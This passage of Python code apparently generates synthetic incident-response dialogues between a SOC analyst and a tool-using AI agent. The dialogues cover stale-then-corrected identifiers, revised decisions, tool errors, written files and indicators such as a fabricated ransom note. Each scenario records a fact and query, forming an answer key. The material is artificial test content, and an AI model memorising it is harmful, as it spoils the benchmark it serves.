        task, query = t_ticket_comment, "the ticket number the EDR findings belong in"
        fixes = (f"ugh the ticket is {v} not {s}. sorry, move the comment pls", f"wrong ticket!! {s} is the old printer thing, use {v}", f"sorry, typo: {v}, not {s}")
    elif kind == 1:
        s, v = pair(lambda: (lambda t: (t, _swap(r, t, 3)))(f"WS-{r.randint(1000, 9999)}"))
        task, query = t_proc_tree, "which workstation the helpdesk reported popping cmd windows"
        fixes = (f"no wait, the other host — {v}. {s} is the receptionist's pc, my bad", f"sorry meant {v}, not {s}. can you redo it", f"hm scratch that, it's {v}")
    elif kind == 2:
        s, v = pair(lambda: _near_int_ip(r))
        task, query = t_conn_siem, "the internal IP address whose outbound traffic needed checking"
        fixes = (f"sorry i meant the .{v.rsplit('.', 1)[1]} one — {v}, not {s}", f"argh wrong ip. it's {v}", f"correction: {v} (i pasted {s} by mistake)")
    elif kind == 3:
        s, v = pair(lambda: (lambda ini, nm: (f"{ini}.{nm[0]}", f"{ini}.{nm[1]}"))(r.choice("abcdefghijklmnoprstuvw"), r.choice(NEAR_NAMES)))
        task, query = t_signins, "whose sign-ins to check after the unexpected MFA push"
        fixes = (f"argh it's {v}, not {s}. two different people 🙈", f"wrong person, sorry: {v}", f"meant {v} — there's a {s} in Hamburg too, not her")
    elif kind == 4:
        s, v = pair(lambda: (lambda c: (c, c[:-1] + str((int(c[-1]) + r.choice((1, 2, 3))) % 10)))(_cve(r)))
        task, query = t_cve, "the CVE the vendor advisory is about"
        fixes = (f"typo, it's {v} — {s} is an old one", f"ugh the cve is {v}. can you rerun", f"sorry: {v} not {s}")
    elif kind == 5:
        s, v = pair(lambda: (lambda a: (a, _swap(r, a, 2)))(_aws(r)))
        task, query = t_cloudtrail, "the AWS account id to pull CloudTrail for"
        fixes = (f"wrong account, it's {v}. i swapped digits", f"hmm no the account is {v}", f"correction, acct id {v} (not {s})")
    elif kind == 6:
        s, v = pair(lambda: (lambda n, ext: (f"Remittance_{n}.{ext}", f"Remittance_{_swap(r, str(n), 0)}.{ext}"))(r.randint(10000, 99999), r.choice(("pdf.lnk", "iso", "html"))))
        task, query = t_mail_trace, "the attachment name to trace in the mail logs"
        fixes = (f"the attachment is {v} actually, not {s}", f"sorry the file was {v}", f"meant {v}")
    elif kind == 7:
        s, v = pair(lambda: (lambda t: (t, _swap(r, t, 9)))(f"NVF-EDGE-{r.randint(1000, 9999)}"))
        task, query = t_fw_show, "the edge firewall rule to show"
        fixes = (f"not that one — {v}", f"rule is {v}, i mixed them up", f"sorry, {v} not {s}")
    elif kind == 8:
        s, v = pair(lambda: (lambda t: (t, _swap(r, t, 3)))(f"INC{r.randint(1000000, 9999999)}"))
        task, query = t_ticket_comment, "the ServiceNow incident to link to the case"
        fixes = (f"ugh the INC is {v}, not {s}", f"wrong number, it's {v}", f"correction {v}")
    elif kind == 9:
        s, v = pair(lambda: (_hex(r, 64), _hex(r, 64)))
        task, query = t_sandbox_file, "the sha256 of the DLL to detonate"
        fixes = (f"the hash i gave was wrong, it's {v} — i copied the one from the zip, not the dll", f"wrong hash sorry: {v}", f"use {v} instead, the other was the zip")
    elif kind == 10:
        s, v = pair(lambda: (lambda n: (f"VLAN {n}", f"VLAN {_swap(r, str(n), 0)}"))(r.randint(100, 999)))
        task, query = t_vlan, "which VLAN to scope the scan to"
        fixes = (f"sorry i meant {v}, {s} is guest wifi", f"no, {v}", f"{v} not {s}, oops")
    else:
        s, v = pair(lambda: r.choice(LOOKALIKES))
        task, query = t_dig, "the lookalike domain the phish came from"
        fixes = (f"hm no it's {v}, look closer at the spelling 🙃", f"wrong one, {v}", f"sorry, domain is {v}")
    g.reserve(s, v)

    def stale() -> None:
        st = task(g, s)
        spec["stale_index"] = g.user(g.ask([st]))
        g.say(g.answer(g.run([st], st.say)))

    def correct() -> None:
        if "stale_index" not in spec:
            return
        st = task(g, v)
        at = g.user(r.choice(fixes))
        g.say(g.answer(g.run([st], r.choice(("Redoing it with the right one.", "Rerunning.", f"Okay, {v} then.", "")))))
        g.fact("correction", v, at, query, stale=s, stale_index=spec["stale_index"])

    return [Ev(0, 0, stale), Ev(0, 1, correct)]


def plan_decision(g: Gen, i: int, revised: bool) -> list[Ev]:
    r = g.rng
    kind = (i + g.dec_offset) % 12
    site = r.choice(SITES)[1]
    if kind == 0:
        dom = g.tok(lambda: _bad_domain(r, FACT_TLDS))
        plain = f"sinkhole {dom} in internal DNS rather than blocking it on the proxy, because the {site} scanners resolve it directly"
        old, new, query = f"block {dom} on the proxy for now", f"sinkhole {dom} in internal DNS instead, since the {site} scanners bypass the proxy", "how the phishing domain gets blocked"
    elif kind == 1:
        lt = g.tok(lambda: f"LT-{r.randint(1000, 9999)}")
        plain = f"keep {lt} online and watch it rather than isolating it, because we want to see where the beacon goes"
        old, new, query = f"isolate {lt} right away", f"keep {lt} online under watch until the memory image is done, the beacon tells us more than a dark host", "what to do with the beaconing laptop"
    elif kind == 2:
        srv = g.tok(lambda: _srv(r))
        plain = f"reimage {srv} rather than cleaning it, because nothing on it can be trusted after the rootkit"
        old, new, query = f"clean {srv} with the EDR remediation", f"reimage {srv} from the golden image after all, the rootkit makes any cleanup untrustworthy", "how the rootkitted server gets fixed"
    elif kind == 3:
        svc, c = g.tok(lambda: f"svc-{r.choice(SVC_WORDS)}{r.randint(10, 99)}"), r.choice(("Vietnam", "Brazil", "Nigeria", "Romania"))
        plain = f"rotate the {svc} credentials tonight rather than at the weekend, because the key was used from {c}"
        old, new, query = f"rotate {svc} at the weekend", f"rotate {svc} tonight, not at the weekend, since the key was used from {c}", "when the leaked service credentials get rotated"
    elif kind == 4:
        acct = g.tok(lambda: _fact_account(r))
        plain = f"disable {acct} instead of just resetting the password, because the attacker registered their own MFA device"
        old, new, query = f"just reset the password for {acct}", f"disable {acct} outright, the attacker added their own authenticator", "what happens to the phished user's account"
    elif kind == 5:
        case, firm = g.tok(lambda: f"case {r.randint(100, 999)}"), r.choice(("Brightwater IR", "Sentra Forensics", "Halvard DFIR"))
        plain = f"bring in {firm} for {case} rather than doing the forensics ourselves, because the insurer only pays if a panel firm leads"
        old, new, query = f"handle the {case} forensics in-house", f"hand the {case} forensics to {firm}, the insurer only pays for panel firms", "who does the forensics"
    elif kind == 6:
        cust = g.tok(lambda: f"{r.choice(('Lindholm Retail', 'Baltic Parts', 'Kvarn Foods', 'Elbe Motoren', 'Polar Pharma'))} ({r.randint(10000, 99999)})")
        plain = f"notify {cust} after we've scoped it, not today, because we don't know yet if their waybills left"
        old, new, query = f"notify {cust} today", f"hold the notification to {cust} until scoping is done, we don't know yet if their waybills left", "when the affected customer gets notified"
    elif kind == 7:
        vpn = g.tok(lambda: f"vpn-{r.choice(SITES)[0].lower()}-{r.randint(10, 99)}")
        plain = f"patch {vpn} in tonight's window rather than waiting for Sunday's change, because the exploit is public"
        old, new, query = f"patch {vpn} in the Sunday change", f"patch {vpn} tonight, the exploit went public this morning", "when the VPN appliance gets patched"
    elif kind == 8:
        acct = g.tok(lambda: _fact_account(r))
        plain = f"leave the inbox rule on {acct} in place for two days to watch it, rather than deleting it, because it tells us when they come back"
        old, new, query = f"delete the inbox rule on {acct} now", f"keep the inbox rule on {acct} for two days as a tripwire", "what happens to the malicious inbox rule"
    elif kind == 9:
        s1, s2 = g.tok(lambda: f"snap-{_hex(r, 8)}z"), g.tok(lambda: f"snap-{_hex(r, 8)}z")
        plain = f"restore {site} from {s1} rather than negotiating, because that snapshot verified clean"
        old, new, query = f"restore {site} from {s1}", f"restore from {s2} instead, {s1} already contains the dropper", "which snapshot the file servers are restored from"
    elif kind == 10:
        n = g.tok(lambda: f"{r.randint(30, 400)} hosts")
        plain = f"use Velociraptor for the {n} rather than KAPE, because we need them all at once"
        old, new, query = f"collect the {n} with KAPE", f"collect the {n} with Velociraptor instead, KAPE one by one is too slow", "which tool collects from the affected hosts"
    else:
        asn = g.tok(lambda: f"AS{r.randint(200000, 399999)}")
        plain = f"block all of {asn} at the edge, because the whole range is bulletproof hosting"
        old, new, query = f"block only the three IPs from {asn}", f"block the whole of {asn} at the edge after all, it's bulletproof hosting end to end", "what gets blocked at the edge for the hosting provider"
    value = new if revised else plain
    g.reserve(value, old if revised else None)
    spec: dict[str, Any] = {}
    leads = ("ok decision: ", "let's ", "we'll ", "going with: ", "decided: ", "ok so we ")

    def first() -> None:
        s = g.step()
        spec["stale_index"] = g.user(casual(r, r.choice(("let's", "i think we", "for now we")), typos=0, tail=False) + " " + old + r.choice((".", ", we can revisit.", " 🤷")) + " " + r.choice(s.asks))
        more = g.run([s], s.say)
        g.say(r.choice(("Okay. ", "Noted. ", "")) + r.choice(("I'll prepare that.", "Tell me when you want it done.", "I'll note it in the ticket.")) + "\n\n" + g.answer(more))

    def decide() -> None:
        s = g.step()
        if revised:
            at = g.user(r.choice(("changed my mind: ", "scratch what i said earlier — ", "update on that: ", "ok new decision: ", "actually, ")) + value + ". " + r.choice(s.asks))
            more = g.run([s], s.say)
            g.say(r.choice(("Understood, ", "Okay, switching: ", "Noted, ")) + value + ".\n\n" + g.answer(more))
            g.fact("decision", value, at, query, stale=old, stale_index=spec["stale_index"])
        else:
            at = g.user(casual(r, r.choice(leads), typos=0, tail=False) + value + ". " + r.choice(s.asks))
            more = g.run([s], s.say)
            g.say(r.choice(("Noted the decision. ", "Okay, that's the plan then. ", "Makes sense. ")) + g.answer(more))
            g.fact("decision", value, at, query)

    return ([Ev(0, 0, first)] if revised else []) + [Ev(0, 1, decide)]


def _traceback(g: Gen, last: str, script: str) -> str:
    r = g.rng
    frames = [f"  File \"/home/soc/ir-tools/{script}\", line {r.randint(20, 400)}, in {r.choice(('main', 'run', 'parse_all', 'load'))}",
              f"    {r.choice(('rows = list(reader)', 'for rec in parser.records():', 'data = fh.read()', 'df = pd.read_csv(path)'))}",
              f"  File \"/usr/lib/python3.11/{r.choice(('codecs.py', 'csv.py', 'json/decoder.py'))}\", line {r.randint(100, 400)}, in {r.choice(('decode', 'read', '__next__'))}",
              f"    {r.choice(('(result, consumed) = self._buffer_decode(data, self.errors, final)', 'return next(self.reader)', 'obj, end = self.raw_decode(s, idx=_w(s, 0).end())'))}"]
    return "Traceback (most recent call last):\n" + "\n".join(frames) + "\n" + last


def plan_error(g: Gen, i: int) -> list[Ev]:
    r = g.rng
    kind = (i + g.err_offset) % 12
    topic, fam = r.choice(TOPICS), r.choice(FAMILIES)
    if kind == 0:
        value = f"403 Forbidden: API client {g.tok(lambda: f'soc-automation-{r.randint(10, 99)}')} lacks scope hosts:contain"
        query = "why isolating the host through the EDR API failed"
    elif kind == 1:
        typo = r.choice(("sumarize", "projet", "extned", "whre", "summarise", "proejct"))
        value = f"Query could not be parsed at '{typo}' on {g.tok(lambda: f'line [{r.randint(3, 9)},{r.randint(10, 60)}]')}"
        query = "the parse error the hunting query hit"
    elif kind == 2:
        value = f"SigmaConditionError: undefined identifier 'selection_{g.tok(lambda: r.choice(('parent', 'cli', 'img', 'net')) + str(r.randint(10, 99)))}' in condition"
        query = "why the Sigma rule would not convert"
    elif kind == 3:
        pos = g.tok(lambda: f"in position {r.randint(10000, 999999)}:")
        value = f"UnicodeDecodeError: 'utf-8' codec can't decode byte 0x{_hex(r, 2)} {pos} invalid start byte"
        query = "the error the triage script died with on the exported logs"
    elif kind == 4:
        value = f"User: arn:aws:sts::{g.tok(lambda: _aws(r))}:assumed-role/SOC-ReadOnly/{g.tok(lambda: 'soc-' + _hex(r, 6) + 'x')} is not authorized to perform: cloudtrail:LookupEvents"
        query = "why the CloudTrail lookup was refused"
    elif kind == 5:
        rule = g.tok(lambda: f"NVF_{fam.title()}_{r.randint(10, 99)}")
        value = f"error: rule {rule} in detections/yara/{fam}_wip.yar({r.randint(10, 80)}): undefined string identifier $s{r.randint(10, 30)}"
        query = "why the new YARA rule did not compile"
    elif kind == 6:
        value = f"SubmissionRejected: sample is {g.tok(lambda: f'{r.randint(101, 900)} MB,')} above the 100 MB limit of the tenant"
        query = "why the sandbox refused the sample"
    elif kind == 7:
        value = f"Commit failed: rule blk-{g.tok(lambda: _hex(r, 5) + 'g')} is shadowed by rule allow-{r.choice(('o365', 'sap-gw', 'edi-partners', 'dhl-api'))} (vsys1)"
        query = "why the firewall block did not commit"
    elif kind == 8:
        t = g.tok(lambda: _ticket(r))
        value = f"409 Conflict: {t} is locked by change freeze {g.tok(lambda: f'CHG{r.randint(100000, 999999)}')}"
        query = "why the ticket could not be updated"
    elif kind == 9:
        value = f"Authorization_RequestDenied: Insufficient privileges to complete the operation. request-id {_uuid(r)}"
        query = "why the Graph query for the account failed"
    elif kind == 10:
        value = f"PermissionError: [Errno 13] Permission denied: '/var/log/nvf-collector/{g.tok(lambda: r.choice(('Security', 'System', 'Sysmon')) + '-' + str(r.randint(100, 999)))}.evtx'"
        query = "the error the analyst got running the collector on the jump host"
    else:
        value = f"Error in 'SearchParser': The search specifies a macro 'nvf_{g.tok(lambda: r.choice(('vpn', 'proxy', 'edr', 'dns')) + '_' + _hex(r, 4) + 'q')}_filter' that cannot be found."
        query = "the Splunk error the analyst pasted"
    g.reserve(value)

    def emit() -> None:
        w = g.w
        host = w.pick("ws")
        if kind == 0:
            ask = f"isolate {host}, it's beaconing"
            bad = Step("edr_isolate", {"host": host, "reason": "beaconing", "mode": "contain"},
                       _js({"meta": {"trace_id": _uuid(r), "query_time": 0.0121}, "resources": [], "errors": [{"code": 403, "message": value}]}), "", error=True)
            fix, after = None, f"The EDR refused: {value}. Someone with console rights has to contain {host}, or the automation client needs that scope."
        elif kind == 1:
            ask = f"hunt for {fam} loader traffic across all sites"
            q = f"DeviceNetworkEvents\n| where Timestamp > ago(7d)\n| where RemoteUrl has_any (\"{w.pick('domains')}\", \"{w.pick('domains')}\")\n| {value.split(chr(39))[1]} count() by DeviceName, RemoteUrl"
            bad = Step("siem_search", {"engine": "defender", "query": q}, "\n".join(["Semantic error", value, "  SYN0002: A recognition error occurred.", f"  Token: {value.split(chr(39))[1]}", "  Details: expected one of: summarize, project, extend, where, take"]), "", error=True)
            fix = t_kql_process(g, host)
            after = f"The first query failed ({value}); rerun with the operator fixed. {fix.summary}"
        elif kind == 2:
            ask = f"convert our {topic} sigma rule for splunk"
            bad = Step("shell", {"command": f"sigma convert -t splunk -p splunk_windows detections/sigma/{topic}.yml"},
                       "\n".join(["Parsing Sigma rules  [####################################]  100%", "Traceback (most recent call last):",
                                  "  File \"/usr/local/lib/python3.11/site-packages/sigma/conditions.py\", line 287, in parse", "    raise SigmaConditionError(...)", value,
                                  "Error: conversion aborted, 1 rule failed"]), "", error=True)
            fix = Step("shell", {"command": f"sigma convert -t splunk -p splunk_windows detections/sigma/{topic}.yml"},
                       f"Parsing Sigma rules  [####################################]  100%\nParentImage=\"*\\\\{r.choice(PROCS)}\" CommandLine=\"*-enc*\" NOT ParentImage=\"*\\\\CcmExec.exe\"", "It converts now.")
            after = f"It failed with {value}; I renamed the selection in the condition to the one defined in the rule and it converts now."
        elif kind == 3:
            ask = f"run the triage script on the {host} export"
            bad = Step("shell", {"command": f"python3 scripts/triage.py --host {host} --csv exports/{host}_security.csv"}, _traceback(g, value, "scripts/triage.py"), "", error=True)
            fix = t_triage(g, host)
            after = f"The export isn't UTF-8 ({value}); I reran it with latin-1 decoding. {fix.summary}"
        elif kind == 4:
            ask = "pull cloudtrail for the prod account since friday"
            bad = Step("shell", {"command": f"aws cloudtrail lookup-events --profile soc-ro --start-time {_day(r)} --max-results 50"},
                       f"\nAn error occurred (AccessDenied) when calling the LookupEvents operation: {value}\n", "", error=True)
            fix, after = None, f"AWS refused it: {value}. The SOC-ReadOnly role needs cloudtrail:LookupEvents, or someone with the audit role has to run it."
        elif kind == 5:
            ask = f"compile the {fam} yara rule i started"
            bad = Step("shell", {"command": f"yarac detections/yara/{fam}_wip.yar /tmp/{fam}.yarc"}, value, "", error=True)
            fix = Step("shell", {"command": f"yarac detections/yara/{fam}_wip.yar /tmp/{fam}.yarc && yara -c /tmp/{fam}.yarc /cases/samples/"}, f"{r.randint(0, 4)}", "Compiles now.")
            after = f"yarac stopped at {value}; the condition referenced a string that was never defined. Fixed and it compiles."
        elif kind == 6:
            h = _hex(r, 64)
            ask = f"detonate the iso from the {host} downloads folder ({h[:16]}…)"
            bad = Step("sandbox_detonate", {"sha256": h, "environment": "win10-x64-office2019", "private": True}, _js({"error": {"code": "SubmissionRejected", "message": value.split(": ", 1)[1]}, "detail": value}), "", error=True)
            fix, after = None, f"The sandbox rejected it: {value}. I can extract the payload from the ISO and submit that instead."
        elif kind == 7:
            ip = w.pick("ext_ips")
            ask = f"block {ip} on the edge"
            bad = Step("firewall_rule", {"device": "fw-edge-01", "action": "block", "address": ip, "position": "bottom"},
                       "\n".join([f"admin@fw-edge-01# set rulebase security rules {value.split()[3]} destination {ip}", "admin@fw-edge-01# commit", "", "Validation Error:", value, "Commit failed"]), "", error=True)
            fix = t_fw_block(g, ip)
            after = f"The first commit failed ({value}), so I moved the block above the allow rule. {fix.summary}"
        elif kind == 8:
            t = value.split()[2]
            ask = f"close {t}, it's done"
            bad = Step("ticket_update", {"ticket": t, "status": "Closed"}, _js({"errorMessages": [value], "errors": {}}), "", error=True)
            fix, after = None, f"Jira refused: {value}. It can be closed after the freeze or by the change manager."
        elif kind == 9:
            acct = w.pick("accounts")
            ask = f"who is {acct}, groups + auth methods"
            bad = Step("iam_query", {"source": "entra", "principal": f"{acct}@{DOMAIN}", "expand": ["authenticationMethods"]},
                       _js({"error": {"code": "Authorization_RequestDenied", "message": value.split(": ", 1)[1], "innerError": {"date": _ts(r), "request-id": value.split()[-1]}}, "raw": value}), "", error=True)
            fix = t_iam_user(g, acct)
            after = f"Graph said {value} for the authentication methods; without that expansion the lookup works. {fix.summary}"
        if kind in (10, 11):
            if kind == 10:
                text = _traceback(g, value, "collector.py")
                intro = casual(r, "getting this when i run the collector on the jump host, any idea?", typos=0.2)
                reply = f"The collector can't read the channel file ({value}); the account it runs as isn't in Event Log Readers. Run it elevated or add the account to that group."
            else:
                text = "\n".join([f"search: index=vpn sourcetype=corvane `nvf_{value.split('nvf_')[1].split('_filter')[0]}_filter` | stats count by user", "", value])
                intro = casual(r, "splunk throws this at me, the dashboard is broken since this morning", typos=0.2)
                reply = f"{value} The dashboard references a macro that isn't shared to the app or was deleted; check Settings > Advanced search > Search macros."
            at = g.user(intro + "\n\n" + text)
            g.pasted.append((at, text))
            g.say(reply)
            g.fact("error", value, at, query)
            return
        g.user(casual(r, ask))
        g.call([bad], bad.say or r.choice(CALL_SAYS))
        at = g.at - 1
        resolved = None
        if fix is not None:
            g.call([fix], "Fixing and rerunning.")
            resolved = g.at - 1
        g.say(after)
        g.fact("error", value, at, query, resolved=resolved)

    return [Ev(0, 0, emit)]


def plan_file(g: Gen, i: int) -> list[Ev]:
    r = g.rng
    kind = (i + g.file_offset) % 12
    topic, fam = r.choice(TOPICS), r.choice(FAMILIES)
    n = "{n}"
    path, ask, tool = (
        (f"detections/sigma/nvf_{topic}_{n}.yml", f"write a sigma rule for the {topic.replace('_', ' ')} thing we saw, put it with the others", "write_file"),
        (f"detections/yara/{fam}_{n}.yar", f"turn the strings from the {fam} sample into a yara rule", "write_file"),
        (f"playbooks/PB-{n}-{topic.replace('_', '-')}.md", f"draft a playbook for {topic.replace('_', ' ')} incidents", "write_file"),
        (f"reports/case-{n}/timeline.md", "write up the timeline so far for the case report", "write_file"),
        (f"hunts/kql/{topic}_{n}.kql", f"add the new domains to the {topic.replace('_', ' ')} hunt query", "edit_file"),
        (f"scripts/triage/{topic}_{n}.py", f"write a small script that pulls the {topic.replace('_', ' ')} events out of the evtx exports", "write_file"),
        (f"network/blocklists/edge_{n}.txt", "add today's IOCs to the edge blocklist file", "edit_file"),
        (f"iocs/case_{n}_iocs.csv", "export the IOCs we have into a csv for the MSSP", "write_file"),
        (f"detections/suppressions/{topic}_{n}.yml", f"suppress the {topic.replace('_', ' ')} alert for the backup servers", "edit_file"),
        (f"osquery/packs/{topic}_{n}.conf", f"make an osquery pack that watches for {topic.replace('_', ' ')}", "write_file"),
        (f"comms/drafts/customer_notice_{n}.md", "draft the customer notice, short, no technical details", "write_file"),
        (f"splunk/apps/nvf_soc_{n}/local/savedsearches.conf", "schedule the spray search every 15 min in splunk", "edit_file"),
    )[kind]
    path = g.tok(lambda: path.format(n=r.randint(100, 999)))
    g.reserve(path)
    query = {"write_file": "the file the agent wrote for this request", "edit_file": "the file the agent edited for this request"}[tool]
    query = f"{query}: {ask.split(',')[0]}"

    def emit() -> None:
        w = g.w
        if tool == "write_file":
            lines = [f"# {ask.split(',')[0]}", f"# created {_ts(r)} for {w.pick('tickets')}"]
            lines += [f"{r.choice(('- ', '  ', '| '))}{r.choice((w.pick('domains'), w.pick('ext_ips'), _hex(r, 64), w.pick('ws'), r.choice(PROCS)))}" for _ in range(r.randint(31, 56))]
            args = {"path": path, "content": "\n".join(lines)}
            out = f"wrote {len(args['content'].encode())} bytes to {path}"
        else:
            old = r.choice(("# end of list", "| where Timestamp > ago(7d)", "  condition: selection", "[default]"))
            new = old + "\n" + "\n".join(r.choice((w.pick("domains"), w.pick("ext_ips"), f"  - {w.pick('srv')}")) for _ in range(r.randint(6, 14)))
            args = {"path": path, "old": old, "new": new}
            out = f"edited {path}: 1 hunk, +{new.count(chr(10))} -0"
        if r.random() < 0.4:
            pre = t_read_sigma(g) if "sigma" in path else t_read_playbook(g)
            g.user(casual(r, ask))
            g.call([pre], "Looking at an existing one for the house style first.")
            at = g.call([Step(tool, args, out, "")], r.choice(("Writing it.", "Saving.", "")))
        else:
            g.user(casual(r, ask))
            at = g.call([Step(tool, args, out, "")], r.choice(("Writing it.", "Saving.", "Here goes.", "")))
        g.say(r.choice((f"Done: {path}.", f"Saved as {path}.", f"It's in {path}; have a look before it goes live.")) + " " + r.choice(CLOSERS))
        g.fact("file", path, at, query)

    return [Ev(0, 0, emit)]


def _onion(r: random.Random) -> str:
    return "".join(r.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(56)) + ".onion"


def plan_identifier(g: Gen, i: int) -> list[Ev]:
    r = g.rng
    kind = (i + g.id_offset) % 12
    if kind == 0:
        value, query = g.tok(lambda: _hex(r, 64)), "the sha256 of the side-loaded DLL the EDR alert flagged"
    elif kind == 1:
        value, query = g.tok(lambda: _ext_ip(r)), "the IP address the password spray came from"
    elif kind == 2:
        value, query = g.tok(lambda: _fact_account(r)), "the account that accepted the push-bombing MFA prompt"
    elif kind == 3:
        value, query = g.tok(lambda: f"NS-2025-{r.randint(10000, 99999)}"), "the MSSP's case number for the intrusion"
    elif kind == 4:
        value, query = g.tok(lambda: "http://" + _onion(r) + f"/chat/{_hex(r, 8)}x"), "the negotiation portal address in the ransom note"
    elif kind == 5:
        value, query = g.tok(lambda: "AKIA" + _upper(r, 16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")), "the AWS access key id that created the backdoor IAM user"
    elif kind == 6:
        value, query = g.tok(lambda: _uuid(r)), "the app id of the malicious OAuth application users consented to"
    elif kind == 7:
        value, query = g.tok(lambda: f"INC{r.randint(1000000, 9999999)}"), "the major incident number in ServiceNow"
    elif kind == 8:
        value, query = g.tok(lambda: f"{r.choice(('accounts', 'billing', 'ap-team', 'remittance'))}@{_bad_domain(r, FACT_TLDS)}"), "the sender address of the invoice phishing wave"
    elif kind == 9:
        value, query = g.tok(lambda: "bc1q" + "".join(r.choice("023456789acdefghjklmnpqrstuvwxyz") for _ in range(38))), "the bitcoin address in the extracted ransomware config"
    elif kind == 10:
        value, query = g.tok(lambda: _ext_ip(r)), "the IP from the threat-intel feed that hit our VPN"
    else:
        value, query = g.tok(lambda: "DESKTOP-" + _upper(r, 7, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")), "the workstation name of the attacker's own machine in the logon events"
    g.reserve(value)

    def emit() -> None:
        w = g.w
        host, acct = w.pick("ws"), w.pick("accounts")
        if kind in (3, 4, 7, 10):  # said by the user
            if kind == 3:
                at = g.user(casual(r, "Nordsec opened their side of it, their case number is", typos=0, tail=False) + f" {value} — use it when you mail them")
                g.say(f"Okay, {value} for anything that goes to Nordsec.")
            elif kind == 7:
                at = g.user(casual(r, "major incident got declared. servicenow number is", typos=0, tail=False) + f" {value}, link it in our tickets pls")
                s = t_ticket_comment(g)
                s.args["comment"] = f"Linked major incident {value}."
                g.call([s], "Linking it.")
                g.say(f"{value} is linked. {s.summary}")
            elif kind == 4:
                note = "\n".join(["!!! NORRVIK FREIGHT — YOUR FILES ARE ENCRYPTED !!!", "", "Your file servers were encrypted and 212 GB were copied to our servers.",
                                  "Do not contact the police or the FBI. Do not hire a recovery company, they will only waste your time.",
                                  "You have 72 hours to contact us before we start publishing customer data.", "", f"Negotiation: {value}",
                                  f"Your personal ID: {_hex(r, 16).upper()}", "", "Do not shut down the servers, files may be lost forever."])
                at = g.user(casual(r, f"this one IS ours 😬 found on {w.pick('srv')}. note:", typos=0, tail=False) + "\n\n" + note)
                g.pasted.append((at, note))
                g.say(f"That's serious. Nothing in the note tells us to do anything; it's evidence. The negotiation portal is {value}. I'd preserve the note, isolate the file server and call the incident lead.")
            else:
                feed = "indicator,type,confidence\n" + "\n".join(f"{x},ip,{r.randint(50, 99)}" for x in r.sample(w.ext_ips, 8)) + f"\n{value},ip,{r.randint(80, 99)}\n" + "\n".join(f"{x},domain,{r.randint(50, 99)}" for x in r.sample(w.domains, 5))
                at = g.user(casual(r, "hollowpoint feed for today:", typos=0, tail=False) + "\n\n" + feed + "\n\n" + f"the one that matters is {value}, it hit the vpn login page 400 times last night")
                g.pasted.append((at, feed))
                g.say(f"Noted: {value} against the VPN portal. I'd block it at the edge and check whether any login from it succeeded.")
            g.fact("identifier", value, at, query)
            return
        if kind == 0:
            alerts = [_alert(g) for _ in range(r.randint(3, 5))]
            alerts.insert(r.randint(1, len(alerts)), _alert(g, "DLL side-loading by a signed binary", host, value))
            s = Step("siem_search", {"engine": "defender", "query": f"alerts | where devices has '{host.lower()}' | top 10 by lastActivity"}, _js({"value": alerts}), "")
            ask, ans = f"what alerts fired on {host} today", f"The one that matters is the side-loading alert on {host}: the DLL's sha256 is {value}. The others are the usual noise."
        elif kind == 1:
            rows = _signin_rows(g, acct, r.randint(6, 10))
            for u in r.sample(w.accounts, r.randint(12, 18)):
                rows.append([_ts(r), f"{u}@{DOMAIN}", value, r.choice(("NL", "DE", "RO")), "Office 365 Exchange Online", 50126, "notApplied", "medium"])
            rows.sort()
            s = Step("siem_search", {"engine": "sentinel", "query": "SigninLogs | where ResultType == 50126 | where TimeGenerated > ago(1d)"}, _pipe(SIGNIN_HEAD, rows), "")
            ask, ans = "lots of 50126 since 3am, looks like a spray. where from?", f"It's a spray: one address, {value}, tried about {len(rows) - 8} accounts with 50126. No success from it so far."
        elif kind == 2:
            evs = []
            for _ in range(r.randint(7, 11)):
                evs.append({"published": _ts_ms(r), "eventType": "user.mfa.okta_verify.deny_push", "actor": {"alternateId": f"{value}@{DOMAIN}"},
                            "client": {"ipAddress": w.pick("ext_ips")}, "outcome": {"result": "DENY"}})
            evs.append({"published": _ts_ms(r), "eventType": "user.authentication.auth_via_mfa", "actor": {"alternateId": f"{value}@{DOMAIN}"},
                        "client": {"ipAddress": w.pick("ext_ips"), "geographicalContext": {"country": "Netherlands"}}, "outcome": {"result": "SUCCESS"}})
            for _ in range(r.randint(3, 6)):
                evs.append({"published": _ts_ms(r), "eventType": "user.session.start", "actor": {"alternateId": f"{w.pick('accounts')}@{DOMAIN}"}, "client": {"ipAddress": w.pick("ext_ips")}, "outcome": {"result": "SUCCESS"}})
            s = Step("iam_query", {"source": "okta", "filter": "eventType sw \"user.mfa\"", "since": "-1d"}, _js(evs), "")
            ask, ans = "okta: anyone getting push bombed this morning?", f"Yes: {value} denied a string of pushes and then accepted one from a Dutch IP. That account is compromised."
        elif kind == 5:
            acc = w.pick("aws")
            evs = [_ct_event(g, acc, r.choice(CT_NAMES)) for _ in range(r.randint(3, 5))]
            evs.insert(r.randint(1, len(evs)), _ct_event(g, acc, "iam:CreateUser", extra={"userIdentity": {"type": "IAMUser", "accountId": acc, "arn": f"arn:aws:iam::{acc}:user/tms-export", "accessKeyId": value},
                                                                                   "requestParameters": {"userName": f"support-{_hex(r, 4)}"}}))
            s = Step("shell", {"command": f"aws cloudtrail lookup-events --profile soc-audit --lookup-attributes AttributeKey=EventName,AttributeValue=CreateUser --start-time {_day(r)}"},
                     _js({"Events": [{"EventName": e["eventName"], "CloudTrailEvent": e} for e in evs]}), "")
            ask, ans = "who created IAM users in prod this week?", f"One CreateUser came from the tms-export user's key {value} — not from terraform. That key is being abused."
        elif kind == 6:
            rows = [[_ts(r), r.choice(("Consent to application", "Add service principal", "Add delegated permission grant", "Update application")), f"{w.pick('accounts')}@{DOMAIN}",
                     r.choice(("Microsoft Teams", "Adobe Acrobat", "Zoom", "SAP Concur")), _uuid(r), "success"] for _ in range(r.randint(12, 20))]
            for u in r.sample(w.accounts, 4):
                rows.append([_ts(r), "Consent to application", f"{u}@{DOMAIN}", "DocuSlgn Viewer", value, "success"])
            rows.sort()
            s = Step("siem_search", {"engine": "sentinel", "query": "AuditLogs | where OperationName has \"Consent\" or OperationName has \"service principal\" | project TimeGenerated, OperationName, InitiatedBy, AppDisplayName, AppId, Result"},
                     _pipe(["TimeGenerated", "OperationName", "InitiatedBy", "AppDisplayName", "AppId", "Result"], rows), "")
            ask, ans = "any weird oauth consents lately?", f"Yes: four users consented to \"DocuSlgn Viewer\" (lowercase L for i), app id {value}, with Mail.Read and offline_access. That's an illicit consent grant."
        elif kind == 8:
